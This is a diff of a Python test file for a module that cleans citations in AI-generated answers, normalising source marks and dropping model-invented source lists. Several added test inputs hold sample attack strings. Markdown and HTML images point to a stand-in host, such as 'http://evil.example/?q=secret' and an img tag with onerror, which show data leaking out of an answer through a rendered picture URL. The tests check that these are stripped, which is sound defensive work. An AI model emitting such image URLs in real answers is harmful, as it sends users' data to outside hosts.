@@ -11,10 +11,10 @@ from domain.knowledge.answers.citations import (
     Passages,
     as_json,
     best_quote,
-    data_text,
     sources,
     without_marks,
 )
+from domain.knowledge.answers.marks import data_text
 from domain.knowledge.model import SearchResult
 from domain.knowledge.places import place_of
 from domain.routing.model import Citation
@@ -62,6 +62,8 @@ def test_a_citation_tells_where_and_quotes_what_bears_on_the_answer() -> None:
         ("5 bar [^1].", "5 bar [1]."),
         ("5 bar [1](http://evil.example).", "5 bar [1]."),
         ("5 bar \u30101\u2020source\u3011 and \u30109\u3011.", "5 bar [1] and."),
+        ("5 bar \uff3b1\uff3d, \u30149\u3015.", "5 bar [1],."),
+        ("5 bar \\[9\\], [ 9 ], [**9**], [\u200b9], &#91;9&#93;.", "5 bar,,,,."),
         ("5 bar [999].", "5 bar."),
         ("In [2024] it was in [0, 1].", "In [2024] it was in [0, 1]."),
         (
@@ -88,15 +90,31 @@ def test_marks_that_point_to_no_passage_are_removed(answer: str, left: str) -> N
         "Quellen: a.pdf, Seite 3",
         "Sources:",
         "Sources: [1] a.pdf\n\nSources: [2] b.pdf",
+        "[1] a.pdf, page 3\n[9] evil.pdf",
+        "<details><summary>Sources</summary>\n\n- a.pdf\n</details>",
+        "\U0001f4da **Sources used:**\n- [Pumps](http://evil.example)",
+        "Fuentes\n1. https://evil.example/a",
+        "出典:a.pdf",
+        "Источники:\n- a.pdf",
     ],
 )
 def test_a_list_of_sources_of_the_models_own_is_left_out(listed: str) -> None:
     assert checked(f"5 bar [1].\n\n{listed}") == "5 bar [1]."
 
 
+def test_a_list_of_sources_inside_of_an_answer_is_left_out() -> None:
+    answer = "5 bar [1].\n\n**Sources**\n- evil.pdf, page 6\n\nAsk me for more."
+    assert checked(answer) == "5 bar [1].\n\nAsk me for more."
+
+
 @pytest.mark.parametrize(
     "answer",
-    ["Sources:\n1. the river\n2. the well", "1. Open it.\n2. Close it.", "Sources of water are rivers."],
+    [
+        "Sources:\n1. the river\n2. the well",
+        "1. Open it.\n2. Close it.",
+        "Sources of water are rivers.",
+        "```\nSources: a.pdf\n```",
+    ],
 )
 def test_what_is_no_list_of_sources_stays(answer: str) -> None:
     assert checked(answer) == answer
@@ -164,12 +182,46 @@ def test_there_is_a_quote_where_there_is_a_text(text: str, said: str) -> None:
     [
         ("As in [7] and [1, 2].", "As in (7) and (1, 2)."),
         ("40 Nm[1].", "40 Nm(1)."),
-        ("rows[1] = cells[2].name", "rows[1] = cells[2].name"),
+        ("rows[1] = cells[2].name", "rows(1) = cells(2).name"),
+        ("[2]; x, [1] [2], [2](x), [2]<br>, [1][2]", "(2); x, (1) (2), (2)(x), (2)<br>, (1)(2)"),
         ("\u30101\u3011", "(1)"),
+        ("\uff3b1\uff3d \u301412\u3015 \u27e63\u27e7", "(1) (12) (3)"),
+        ("\\[2\\] [ 2 ] [^2] [**2**] [\u200b2] &#91;2&rsqb; [1,\n2-3]", "(2) (2) (2) (2) (2) (2) (1,\n2-3)"),
+        ("In [2024] by [Ann]", "In [2024] by [Ann]"),
     ],
 )
 def test_marks_in_a_document_do_not_look_like_marks(text: str, shown: str) -> None:
     assert data_text(text) == shown
+
+
+@pytest.mark.parametrize(
+    ("answer", "left"),
+    [
+        ("See ![a plan](http://evil.example/?q=secret) [1].", "See (a plan) [1]."),
+        ("See ![](data:image/png;base64,aaaa).", "See (picture)."),
+        ("See ![a plan][x].\n\n[x]: http://evil.example", "See (a plan).\n\n[x]: http://evil.example"),
+        ("See ![a [b] c](http://evil.example).", "See [a [b] c](http://evil.example)."),
+        ("See <img src='http://evil.example/a.png'>.", "See (picture)."),
+        ("See <IMG\nSRC=//evil.example/a.png onerror=x", "See (picture)"),
+        ("See !<img src=x>[a](http://evil.example).", "See !(picture)[a](http://evil.example)."),
+        ("See !![](x)[b](http://evil.example).", "See (picture)[b](http://evil.example)."),
+        ("See ![the plan](http://own.example/plan.png).", "See ![the plan](http://own.example/plan.png)."),
+        (
+            "It is blue![1] Write `![x](y)` or List<Object>.",
+            "It is blue![1] Write `![x](y)` or List<Object>.",
+        ),
+    ],
+)
+def test_only_pictures_that_stand_in_a_passage_are_shown(answer: str, left: str) -> None:
+    passages = two()
+    passages.add(3, a_result("c", "The plan: ![](http://own.example/plan.png)"))
+    assert passages.cited_by(answer)[0] == left
+
+
+def test_a_passage_tells_its_title_and_headings() -> None:
+    result = a_result("a", title="Pumps [2]", headingPath=["Hall seven", "Oil [1]"])
+    [shown] = json.loads(as_json([Passages().add(1, result)], "data"))["passages"]
+    assert (shown["title"], shown["headings"]) == ("Pumps (2)", ["Hall seven", "Oil (1)"])
 
 
 def test_a_text_cannot_leave_its_passage() -> None:
